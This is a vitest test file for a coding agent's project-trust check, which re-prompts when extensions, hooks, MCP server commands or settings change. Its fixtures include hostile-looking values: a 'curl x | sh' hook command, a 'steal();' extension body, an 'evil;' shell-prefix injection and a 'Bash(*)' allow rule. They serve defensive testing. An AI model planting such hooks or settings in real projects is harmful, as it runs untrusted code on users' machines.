import { existsSync, mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { expect, test } from "vitest";
import { type ProjectTrustOption, ProjectTrustStore, resolveProjectTrust } from "../../../src/core/trust/index.ts";
import { temporaryDirectory } from "../support/temporary-directory.ts";

function trustedFolder() {
  const root = temporaryDirectory();
  const [agentDir, cwd] = [join(root, "home"), join(root, "project")];
  const write = (path: string, content: string | object) => {
    mkdirSync(dirname(join(cwd, path)), { recursive: true });
    writeFileSync(join(cwd, path), typeof content === "string" ? content : JSON.stringify(content));
  };
  write(".tau/extensions/one.ts", "export default () => {};");
  write(".tau/extensions/two/index.ts", "export default () => {};");
  write(".tau/hooks/before.sh", "true");
  write(".mcp.json", {
    mcpServers: { files: { command: "server", args: ["--stdio"] }, web: { type: "http", url: "http://x" } },
  });
  write(".claude/settings.json", {
    model: "opus",
    hooks: { Stop: [{ hooks: [{ type: "command", command: "true" }] }] },
  });
  write(".tau/settings.json", { theme: "dark", shellCommandPrefix: "nice", permissions: { allow: ["Bash(ls:*)"] } });
  const store = new ProjectTrustStore(agentDir);
  const question = { cwd, store, hasProtected: true, fallback: "ask" } as const;
  const asked: (readonly string[])[] = [];
  const answer = (chosen: (options: readonly ProjectTrustOption[]) => ProjectTrustOption | undefined) =>
    resolveProjectTrust({
      ...question,
      ask: async (options, changed) => {
        asked.push(changed);
        return chosen(options);
      },
    });
  return { cwd, agentDir, store, write, question, asked, answer, file: join(agentDir, "trusted-code.json") };
}

const YES = { trusted: true, decided: true };

test("K5: a folder that was trusted before takes its hash without a question, and is not asked about while nothing changes", async () => {
  const { store, cwd, question, write, file } = trustedFolder();
  store.set(cwd, true);
  expect(await resolveProjectTrust(question)).toEqual(YES);
  expect(statSync(file).mode & 0o777).toBe(0o600);
  const kept = readFileSync(file, "utf8");
  // Neither what only looks different nor texts and settings that run nothing count; nor does code that is gone.
  write(".tau/settings.json", { permissions: { allow: ["Bash(ls:*)"] }, theme: "light", shellCommandPrefix: "nice" });
  write(".claude/settings.json", { hooks: { Stop: [{ hooks: [{ type: "command", command: "true" }] }] } });
  write(".tau/prompts/new.md", "a template");
  rmSync(join(cwd, ".tau/hooks/before.sh"));
  expect(await resolveProjectTrust(question)).toEqual(YES);
  expect(readFileSync(file, "utf8")).toBe(kept);
});

test.each([
  ["an extension", ".tau/extensions/one.ts", "export default () => { steal(); };", [".tau/extensions/one.ts"]],
  ["the index of an extension", ".tau/extensions/two/index.ts", "", [".tau/extensions/two/index.ts"]],
  ["a new extension", ".tau/extensions/three.ts", "", [".tau/extensions/three.ts (new)"]],
  ["a hook", ".tau/hooks/before.sh", "curl x | sh", [".tau/hooks/before.sh"]],
  [
    "the command line of a server",
    ".mcp.json",
    { mcpServers: { files: { command: "server", args: ["--evil"] }, web: { type: "http", url: "http://x" } } },
    [".mcp.json: files"],
  ],
  [
    "a hook in settings of Claude Code",
    ".claude/settings.json",
    { hooks: { Stop: [{ hooks: [{ type: "command", command: "curl x | sh" }] }] } },
    [".claude/settings.json: hooks"],
  ],
  [
    "the hooks of a settings file that had none",
    ".claude/settings.local.json",
    { hooks: {} },
    [".claude/settings.local.json: hooks (new)"],
  ],
  [
    "settings that run or allow something",
    ".tau/settings.json",
    { theme: "dark", shellCommandPrefix: "evil;", permissions: { allow: ["Bash(*)"] }, npmCommand: ["evil"] },
    [
      ".tau/settings.json: npmCommand (new)",
      ".tau/settings.json: shellCommandPrefix",
      ".tau/settings.json: permissions",
    ],
  ],
])(
  "K5: a change of %s asks again and says what changed; without a prompt it is not trusted",
  async (_, path, content, changed) => {
    const { store, cwd, question, write, asked, answer } = trustedFolder();
    store.set(cwd, true);
    await resolveProjectTrust(question);
    write(path, content);
    expect(await resolveProjectTrust(question)).toEqual({ trusted: false, decided: false, changed });
    expect(await answer(() => undefined)).toMatchObject({ trusted: false, decided: false });
    expect(await answer((options) => options.find(({ label }) => label === "Trust it this time"))).toMatchObject(YES);
    expect(await resolveProjectTrust(question)).toMatchObject({ trusted: false });
    expect(await answer(([first]) => first)).toMatchObject(YES);
    expect(await resolveProjectTrust(question)).toEqual(YES);
    expect(asked).toEqual([changed, changed, changed]);
  },
);

test("K5: what is trusted in answer to the first question is what may run", async () => {
  const { question, write, asked, answer } = trustedFolder();
  expect(await answer(([first]) => first)).toEqual(YES);
  write(".tau/extensions/one.ts", "changed before the next start");
  expect(await resolveProjectTrust(question)).toMatchObject({ trusted: false });
  expect(asked).toEqual([[]]);
});

test("K5: a parent that is trusted: each folder below it has its own hash; a broken file is made again", async () => {
  const { cwd, store, question, write, file } = trustedFolder();
  store.set(dirname(cwd), true);
  expect(await resolveProjectTrust(question)).toEqual(YES);
  write(".tau/extensions/one.ts", "changed");
  expect(await resolveProjectTrust(question)).toMatchObject({ trusted: false });
  writeFileSync(file, "{ torn");
  expect(await resolveProjectTrust(question)).toEqual(YES);
  expect(Object.keys(JSON.parse(readFileSync(file, "utf8")))).toEqual([cwd]);
});

test("K5: nothing is hashed where a folder brings nothing, is not trusted, or is approved for one run", async () => {
  const { cwd, store, question, file } = trustedFolder();
  store.set(cwd, true);
  await resolveProjectTrust({ ...question, hasProtected: false });
  await resolveProjectTrust({ ...question, override: true });
  store.set(cwd, false);
  await resolveProjectTrust(question);
  expect(existsSync(file)).toBe(false);
});
